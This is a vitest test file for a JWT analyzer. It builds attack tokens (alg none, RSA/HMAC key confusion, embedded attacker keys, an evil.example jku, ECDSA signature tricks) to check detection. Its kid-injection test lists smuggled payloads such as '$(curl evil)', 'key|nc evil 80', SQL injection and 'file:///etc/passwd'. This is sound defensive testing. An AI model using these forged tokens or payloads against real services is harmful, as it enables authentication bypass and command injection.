import { createHash, createPrivateKey } from 'node:crypto';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { analyzeToken, TOKEN_CHECKS, type AnalyzeOptions, type Keyring } from '../../../../core/token';
import type { CaseConfig } from '../../../../core/evidence/case-config';
import { keyEncodings } from '../../../../core/token/checks/key-confusion-encodings';
import { CURVE_ORDER, rawToDerSignature } from '../../../../core/token/crypto/ecdsa';
import { b64u, json, keyPair, keyringOf, makeToken, publicJwk, signInput, verifier } from './token-helpers';
import { certificatePem, seconds, x5cToken } from './x509-fixtures';

const rsa = keyPair('rsa');
const ec = keyPair('P-256');
const attacker = keyPair('P-256');
const SECRET = 'k8#Qz!v2@Lm9$Wp4^Tr6&Yx1*Nb3(Hd5)';
const NOW = Date.UTC(2026, 0, 1);
const claims = (extra: Record<string, unknown> = {}) => ({
  iss: 'https://id.example',
  sub: 'alice',
  aud: 'orders',
  iat: NOW / 1000 - 60,
  exp: NOW / 1000 + 600,
  ...extra,
});
const config: CaseConfig = {
  expectedIssuers: ['https://id.example'],
  apis: [{ name: 'orders', baseUrl: 'https://api.example/orders', audiences: ['orders'] }],
  allowedAlgorithms: ['RS256', 'ES256', 'HS256'],
  maxTokenLifetimeSeconds: 3600,
  jwksUri: 'https://id.example/jwks',
};

let keyring: Keyring;
const ids = async (token: string, options: Partial<AnalyzeOptions> = {}) =>
  (
    await analyzeToken(token, { verifier, keyring, caseConfig: config, now: NOW, presentedTo: 'orders', ...options })
  ).findings.map((finding) => finding.id);

function withSignature(token: string, signature: Uint8Array): string {
  return `${token.slice(0, token.lastIndexOf('.'))}.${b64u(signature)}`;
}
function highS(token: string): string {
  const raw = Buffer.from(token.split('.')[2]!, 'base64url');
  const s = BigInt(`0x${raw.subarray(32).toString('hex')}`);
  const flipped = CURVE_ORDER['P-256'] - s;
  return withSignature(
    token,
    Buffer.concat([raw.subarray(0, 32), Buffer.from(flipped.toString(16).padStart(64, '0'), 'hex')]),
  );
}
function lowS(token: string): string {
  const raw = Buffer.from(token.split('.')[2]!, 'base64url');
  return BigInt(`0x${raw.subarray(32).toString('hex')}`) > CURVE_ORDER['P-256'] / 2n ? highS(token) : token;
}
function certificateFor(): { pem: string; key: string } {
  const dir = mkdtempSync(path.join(tmpdir(), 'tt-x5c-'));
  execFileSync(
    'openssl',
    [
      'req',
      '-x509',
      '-newkey',
      'ec',
      '-pkeyopt',
      'ec_paramgen_curve:P-256',
      '-nodes',
      '-keyout',
      path.join(dir, 'k.pem'),
      '-out',
      path.join(dir, 'c.pem'),
      '-subj',
      '/CN=rogue',
      '-days',
      '3',
    ],
    { stdio: 'ignore' },
  );
  return { pem: readFileSync(path.join(dir, 'c.pem'), 'utf8'), key: readFileSync(path.join(dir, 'k.pem'), 'utf8') };
}
const sha256Hex = (text: string) => createHash('sha256').update(text).digest('hex');
const derBody = (pem: string) => pem.replace(/-----[^-]+-----|\s/g, '');

describe('token checks', () => {
  it('every check has an id, a title, a severity and references, and ids are unique', () => {
    expect(new Set(TOKEN_CHECKS.map((check) => check.id)).size).toBe(TOKEN_CHECKS.length);
    for (const check of TOKEN_CHECKS) {
      expect(check.id).toMatch(/^[a-z0-9]+(-[a-z0-9]+)*$/);
      expect(check.title.length).toBeGreaterThan(3);
      expect(check.references.length).toBeGreaterThan(0);
    }
  });

  const certificate = certificateFor();
  const cases: [
    string,
    () => Promise<[string, Partial<AnalyzeOptions>?]>,
    () => Promise<[string, Partial<AnalyzeOptions>?]>,
  ][] = [
    [
      'malformed-token',
      async () => ['abc.def'],
      async () => [makeToken('RS256', rsa.privateKey, claims(), { kid: 'rsa' })],
    ],
    [
      'non-canonical-encoding',
      async () => [`${makeToken('RS256', rsa.privateKey, claims(), { kid: 'rsa' })}=`],
      async () => [makeToken('RS256', rsa.privateKey, claims(), { kid: 'rsa' })],
    ],
    [
      'invalid-utf8',
      async () => [`${json({ alg: 'HS256' })}.${b64u(Buffer.from([0xc3, 0x28]))}.x`],
      async () => [`${json({ alg: 'HS256' })}.${b64u('é')}.x`],
    ],
    [
      'duplicate-json-key',
      async () => [`${b64u('{"alg":"RS256","kid":"rsa","kid":"x"}')}.${json(claims())}.x`],
      async () => [`${b64u('{"alg":"RS256","kid":"rsa"}')}.${json(claims())}.x`],
    ],
    [
      'claim-type',
      async () => [makeToken('RS256', rsa.privateKey, claims({ exp: String(NOW / 1000 + 600) }), { kid: 'rsa' })],
      async () => [makeToken('RS256', rsa.privateKey, claims(), { kid: 'rsa' })],
    ],
    [
      'alg-none',
      async () => [`${json({ alg: 'nOnE' })}.${json(claims())}.`],
      async () => [makeToken('HS256', SECRET, claims())],
    ],
    [
      'signature-missing',
      async () => [`${json({ alg: 'RS256', kid: 'rsa' })}.${json(claims())}.`],
      async () => [makeToken('RS256', rsa.privateKey, claims(), { kid: 'rsa' })],
    ],
    [
      'signature-invalid',
      async () => [
        makeToken('RS256', rsa.privateKey, claims(), { kid: 'rsa' }).replace(
          /\.[^.]+\./,
          `.${json(claims({ sub: 'admin' }))}.`,
        ),
      ],
      async () => [makeToken('RS256', rsa.privateKey, claims(), { kid: 'rsa' })],
    ],
    [
      'signature-length',
      async () => [withSignature(makeToken('HS256', SECRET, claims()), new Uint8Array(31))],
      async () => [makeToken('HS256', SECRET, claims())],
    ],
    [
      'empty-hmac-key',
      async () => [makeToken('HS256', Buffer.alloc(0), claims())],
      async () => [makeToken('HS256', 'x', claims())],
    ],
    [
      'weak-hmac-secret',
      async () => [makeToken('HS256', 'secret', claims())],
      async () => [makeToken('HS256', SECRET, claims())],
    ],
    [
      'key-confusion',
      async () => [makeToken('HS256', rsa.publicKey.export({ format: 'pem', type: 'spki' }) as string, claims())],
      async () => [makeToken('HS256', 'another-long-random-secret-9f8e7d6c5b4a', claims())],
    ],
    [
      'embedded-jwk',
      async () => [makeToken('ES256', attacker.privateKey, claims(), { jwk: publicJwk(attacker.publicKey) })],
      async () => [makeToken('ES256', ec.privateKey, claims(), { kid: 'ec' })],
    ],
    [
      'jku-x5u',
      async () => [makeToken('RS256', rsa.privateKey, claims(), { kid: 'rsa', jku: 'https://evil.example/jwks' })],
      async () => [makeToken('RS256', rsa.privateKey, claims(), { kid: 'rsa' })],
    ],
    [
      'x5c-untrusted',
      async () => [
        makeToken('ES256', createPrivateKey(certificate.key), claims(), { x5c: [derBody(certificate.pem)] }),
      ],
      async () => [
        makeToken('ES256', createPrivateKey(certificate.key), claims(), { x5c: [derBody(certificate.pem)] }),
        { keyring: await keyringOf({ 'trusted.pem': certificate.pem }) },
      ],
    ],
    [
      'x5c-outside-validity',
      async () => [x5cToken(['leaf', 'intermediate-ca'], claims({ iat: seconds('2026-01-01T00:00:01Z') }))],
      async () => [x5cToken(['leaf', 'intermediate-ca'], claims({ iat: seconds('2026-01-01T00:00:00Z') }))],
    ],
    [
      'x5c-path-constraints',
      async () => [
        x5cToken(['forged-under-leaf', 'leaf', 'intermediate-ca'], claims({ iat: seconds('2025-06-01T00:00:00Z') })),
        { keyring: await keyringOf({ 'root.pem': certificatePem('root-ca') }) },
      ],
      async () => [
        x5cToken(['leaf', 'intermediate-ca'], claims({ iat: seconds('2025-06-01T00:00:00Z') })),
        { keyring: await keyringOf({ 'root.pem': certificatePem('root-ca') }) },
      ],
    ],
    [
      'kid-injection',
      async () => [makeToken('HS256', SECRET, claims(), { kid: '../../../../dev/null' })],
      async () => [makeToken('HS256', SECRET, claims(), { kid: '2025-05-signing-key' })],
    ],
    [
      'unknown-kid',
      async () => [makeToken('RS256', rsa.privateKey, claims(), { kid: 'nope' })],
      async () => [makeToken('RS256', rsa.privateKey, claims(), { kid: 'rsa' })],
    ],
    [
      'key-outside-validity',
      async () => [
        makeToken('RS256', rsa.privateKey, claims(), { kid: 'rsa' }),
        {
          keyring: await keyringOf({ 'k.jwk': JSON.stringify(publicJwk(rsa.publicKey, { kid: 'rsa' })) }, [
            { kid: 'rsa', activated: NOW - 86_400_000, retired: NOW - 3_600_000, compromised: false },
          ]),
        },
      ],
      async () => [
        makeToken('RS256', rsa.privateKey, claims(), { kid: 'rsa' }),
        {
          keyring: await keyringOf({ 'k.jwk': JSON.stringify(publicJwk(rsa.publicKey, { kid: 'rsa' })) }, [
            { kid: 'rsa', activated: NOW - 86_400_000, compromised: false },
          ]),
        },
      ],
    ],
    [
      'ecdsa-psychic-signature',
      async () => [withSignature(makeToken('ES256', ec.privateKey, claims(), { kid: 'ec' }), new Uint8Array(64))],
      async () => [makeToken('ES256', ec.privateKey, claims(), { kid: 'ec' })],
    ],
    [
      'ecdsa-high-s',
      // Both S forms of one signature in the case: one was made from the other.
      async () => {
        const genuine = lowS(makeToken('ES256', ec.privateKey, claims(), { kid: 'ec' }));
        return [highS(genuine), { caseTokenHashes: new Set([sha256Hex(genuine)]) }];
      },
      // A genuine high-S token alone is how many signers write: no finding.
      async () => {
        const genuine = highS(lowS(makeToken('ES256', ec.privateKey, claims(), { kid: 'ec' })));
        return [genuine, { caseTokenHashes: new Set([sha256Hex(genuine)]) }];
      },
    ],
    [
      'ecdsa-der-signature',
      async () => {
        const token = makeToken('ES256', ec.privateKey, claims(), { kid: 'ec' });
        return [withSignature(token, rawToDerSignature(Buffer.from(token.split('.')[2]!, 'base64url')))];
      },
      async () => [makeToken('ES256', ec.privateKey, claims(), { kid: 'ec' })],
    ],
    [
      'crit-header',
      async () => [makeToken('RS256', rsa.privateKey, claims(), { kid: 'rsa', crit: ['exp'] })],
      async () => [makeToken('RS256', rsa.privateKey, claims(), { kid: 'rsa' })],
    ],
    [
      'b64-false',
      async () => {
        const input = `${json({ alg: 'HS256', b64: false, crit: ['b64'] })}.hello`;
        return [`${input}.${b64u(signInput('HS256', SECRET, input))}`];
      },
      async () => [makeToken('HS256', SECRET, claims())],
    ],
    [
      'algorithm-not-allowed',
      async () => [makeToken('PS256', rsa.privateKey, claims(), { kid: 'rsa' })],
      async () => [makeToken('RS256', rsa.privateKey, claims(), { kid: 'rsa' })],
    ],
    [
      'issuer-not-allowed',
      async () => [makeToken('RS256', rsa.privateKey, claims({ iss: 'https://evil.example' }), { kid: 'rsa' })],
      async () => [makeToken('RS256', rsa.privateKey, claims(), { kid: 'rsa' })],
    ],
    [
      'audience-not-allowed',
      async () => [makeToken('RS256', rsa.privateKey, claims({ aud: 'billing' }), { kid: 'rsa' })],
      async () => [makeToken('RS256', rsa.privateKey, claims({ aud: ['billing', 'orders'] }), { kid: 'rsa' })],
    ],
    [
      'typ-confusion',
      async () => [makeToken('RS256', rsa.privateKey, claims({ nonce: 'n-0S6_WzA2Mj', at_hash: 'x' }), { kid: 'rsa' })],
      async () => [makeToken('RS256', rsa.privateKey, claims(), { kid: 'rsa', typ: 'at+jwt' })],
    ],
    [
      'missing-exp',
      async () => [
        makeToken(
          'RS256',
          rsa.privateKey,
          { iss: 'https://id.example', sub: 'a', aud: 'orders', iat: NOW / 1000 },
          { kid: 'rsa' },
        ),
      ],
      async () => [makeToken('RS256', rsa.privateKey, claims(), { kid: 'rsa' })],
    ],
    [
      'lifetime-too-long',
      async () => [makeToken('RS256', rsa.privateKey, claims({ exp: NOW / 1000 + 86_400 }), { kid: 'rsa' })],
      async () => [makeToken('RS256', rsa.privateKey, claims({ exp: NOW / 1000 + 3000 }), { kid: 'rsa' })],
    ],
    [
      'iat-in-future',
      async () => [
        makeToken('RS256', rsa.privateKey, claims({ iat: NOW / 1000 + 3600, exp: NOW / 1000 + 4000 }), { kid: 'rsa' }),
      ],
      async () => [makeToken('RS256', rsa.privateKey, claims({ iat: NOW / 1000 + 30 }), { kid: 'rsa' })],
    ],
    [
      'nbf-after-exp',
      async () => [makeToken('RS256', rsa.privateKey, claims({ nbf: NOW / 1000 + 700 }), { kid: 'rsa' })],
      async () => [makeToken('RS256', rsa.privateKey, claims({ nbf: NOW / 1000 }), { kid: 'rsa' })],
    ],
    [
      'used-after-exp',
      async () => [makeToken('RS256', rsa.privateKey, claims(), { kid: 'rsa' }), { useTimes: [NOW + 3_600_000] }],
      async () => [makeToken('RS256', rsa.privateKey, claims(), { kid: 'rsa' }), { useTimes: [NOW + 60_000] }],
    ],
  ];

  it('judges the use times of a token used 200,000 times (a spread Math.max threw there and the checks were skipped)', async () => {
    keyring = await keyringOf({ 'rsa.jwk': JSON.stringify(publicJwk(rsa.publicKey, { kid: 'rsa' })) });
    const token = makeToken('RS256', rsa.privateKey, claims(), { kid: 'rsa' });
    const useTimes = Array.from({ length: 200_000 }, (_, i) => NOW + 3_600_000 + i * 1000);
    const { findings } = await analyzeToken(token, { verifier, keyring, caseConfig: config, now: NOW, useTimes });
    expect(findings.filter((finding) => finding.message.includes('could not run'))).toEqual([]);
    const late = findings.find((finding) => finding.id === 'used-after-exp');
    expect(late?.message).toContain('200000');
  });

  it.each(cases)('%s: triggers on an attack token and stays silent on a near miss', async (id, trigger, nearMiss) => {
    keyring = await keyringOf({
      'rsa.jwk': JSON.stringify(publicJwk(rsa.publicKey, { kid: 'rsa' })),
      'ec.jwk': JSON.stringify(publicJwk(ec.publicKey, { kid: 'ec' })),
      'hs.jwk': JSON.stringify({ kty: 'oct', kid: 'hs', k: b64u(SECRET) }),
    });
    const [attack, attackOptions] = await trigger();
    expect(await ids(attack, attackOptions)).toContain(id);
    const [benign, benignOptions] = await nearMiss();
    expect(await ids(benign, benignOptions)).not.toContain(id);
  });

  it('ecdsa-high-s: a high-S token is reported only where it matters, saying why', async () => {
    keyring = await keyringOf({ 'ec.jwk': JSON.stringify(publicJwk(ec.publicKey, { kid: 'ec' })) });
    const genuine = lowS(makeToken('ES256', ec.privateKey, claims(), { kid: 'ec' }));
    const twin = highS(genuine);
    const highSFinding = async (options: Partial<AnalyzeOptions>) =>
      (await analyzeToken(twin, { verifier, keyring, caseConfig: config, now: NOW, ...options })).findings.find(
        (finding) => finding.id === 'ecdsa-high-s',
      );
    // Alone, with or without the case's tokens known: high-S is how many signers write.
    expect(await highSFinding({})).toBeUndefined();
    expect(await highSFinding({ caseTokenHashes: new Set([sha256Hex(twin)]) })).toBeUndefined();
    // Both S forms in the case: medium, naming the low-S twin.
    const seen = await highSFinding({ caseTokenHashes: new Set([sha256Hex(twin), sha256Hex(genuine)]) });
    expect(seen?.severity).toBe('medium');
    expect(seen?.message).toContain(`low-S twin, token ${sha256Hex(genuine).slice(0, 12)}`);
    expect(seen?.evidence.detail).toMatchObject({ lowSTwin: sha256Hex(genuine), requireLowS: false });
    // Verifiers that require low-S: low, saying they refuse it.
    const required = await highSFinding({ caseConfig: { ...config, requireLowS: true } });
    expect(required?.severity).toBe('low');
    expect(required?.message).toContain('require low-S signatures (requireLowS)');
    // The genuine low-S token never gets the finding.
    const low = await analyzeToken(genuine, {
      verifier,
      keyring,
      caseConfig: { ...config, requireLowS: true },
      now: NOW,
      caseTokenHashes: new Set([sha256Hex(twin), sha256Hex(genuine)]),
    });
    expect(low.findings.map((finding) => finding.id)).not.toContain('ecdsa-high-s');
  });

  it('key confusion is found in every encoding of the public key', async () => {
    keyring = await keyringOf({ 'rsa.pem': rsa.publicKey.export({ format: 'pem', type: 'spki' }) as string });
    const encodings = keyEncodings(keyring.keys[0]!);
    expect(encodings.map((encoding) => encoding.name)).toEqual(
      expect.arrayContaining([
        'SPKI PEM (LF, no trailing newline)',
        'SPKI PEM (CRLF, trailing newline)',
        'PKCS#1 PEM (LF, trailing newline)',
        'SPKI DER',
        'PKCS#1 DER',
        'JWK JSON (RFC 7638 member order)',
      ]),
    );
    for (const encoding of encodings) {
      const result = await analyzeToken(makeToken('HS256', Buffer.from(encoding.bytes), claims()), {
        verifier,
        keyring,
      });
      const finding = result.findings.find((f) => f.id === 'key-confusion');
      expect(finding?.evidence.encoding).toBe(encoding.name);
    }
    const withCertificate = await keyringOf({ 'cert.pem': certificate.pem });
    const certificateEncodings = keyEncodings(withCertificate.keys[0]!).map((encoding) => encoding.name);
    expect(certificateEncodings).toEqual(
      expect.arrayContaining(['certificate PEM (LF, trailing newline)', 'certificate DER']),
    );
  });

  it('kid injection recognises every payload family', async () => {
    keyring = await keyringOf({});
    for (const kid of [
      "' OR '1'='1",
      "admin'--",
      '1 --',
      '--',
      'x) -- y',
      '$(curl evil)',
      'key|nc evil 80',
      '{"$ne":null}',
      'a\r\nX-Injected: 1',
      'key\u0000.pem',
      5,
      ['a'],
      'file:///etc/passwd',
    ]) {
      expect(await ids(makeToken('HS256', SECRET, claims(), { kid })), JSON.stringify(kid)).toContain('kid-injection');
    }
  });

  it('kid injection leaves base64url key ids alone, "--" inside an RFC 7638 thumbprint included', async () => {
    keyring = await keyringOf({});
    for (const kid of [
      '3Ye84bGQ8cW58D4yvGAXkR1K8lV2qCN7g--3SoPEaTQ',
      'NzbLsXh8uDCcd-6MNwXF4W_7noWXFZAfHkxZsRGC9Xs',
      '2025-05-signing-key',
      'a-b_c--d',
    ]) {
      expect(await ids(makeToken('HS256', SECRET, claims(), { kid })), kid).not.toContain('kid-injection');
    }
  });

  it('a token a conforming verifier refuses is invalid, yet names the compromised key that matches it as written', async () => {
    keyring = await keyringOf({ 'k.jwk': JSON.stringify(publicJwk(rsa.publicKey, { kid: 'rsa' })) }, [
      { kid: 'rsa', activated: NOW - 86_400_000, compromised: true },
    ]);
    const input = `${json({ alg: 'RS256', kid: 'rsa' })}.${json(claims())}=`; // an '=' that base64url in JOSE forbids, signed as written
    const token = `${input}.${b64u(signInput('RS256', rsa.privateKey, input))}`;
    const result = await analyzeToken(token, { verifier, keyring, now: NOW });
    expect(result.signature).toMatchObject({ status: 'invalid', matchedKey: { kid: 'rsa' } });
    expect(result.signature.key).toBeUndefined();
    expect(result.findings.find((f) => f.id === 'key-outside-validity')).toMatchObject({ severity: 'critical' });
    expect(result.findings.find((f) => f.id === 'signature-invalid')?.message).toContain(
      'matches the bytes as written',
    );
  });

  it('embedded jwk: critical when the token verifies only with the key it carries', async () => {
    keyring = await keyringOf({ 'ec.jwk': JSON.stringify(publicJwk(ec.publicKey, { kid: 'ec' })) });
    const result = await analyzeToken(
      makeToken('ES256', attacker.privateKey, claims(), { jwk: publicJwk(attacker.publicKey) }),
      { verifier, keyring },
    );
    expect(result.findings.find((f) => f.id === 'embedded-jwk')).toMatchObject({
      severity: 'critical',
      evidence: { detail: { verifiesWithEmbeddedKey: true } },
    });
  });

  it('a wordlist searcher finds secrets outside the built-in list', async () => {
    const { createWordlistSearcher, pureHmac } = await import('../../../../core/token');
    keyring = await keyringOf({});
    const words = new TextEncoder().encode('alpha\r\nbeta\nsummer-2024!\ngamma');
    const wordlist = createWordlistSearcher(
      async function* () {
        yield words.subarray(0, 9);
        yield words.subarray(9);
      },
      'words.txt',
      pureHmac,
    );
    const result = await analyzeToken(makeToken('HS256', 'summer-2024!', claims()), { verifier, keyring, wordlist });
    expect(result.findings.find((f) => f.id === 'weak-hmac-secret')?.evidence.detail).toMatchObject({
      line: 3,
      source: 'words.txt',
    });
    // The built-in list has no lines: its evidence names the list and carries no line number.
    const builtIn = (await analyzeToken(makeToken('HS256', 'secret', claims()), { verifier, keyring })).findings.find(
      (f) => f.id === 'weak-hmac-secret',
    );
    expect(builtIn?.evidence.detail).toMatchObject({ source: 'built-in list' });
    expect(builtIn?.evidence.detail).not.toHaveProperty('line');
  });
});
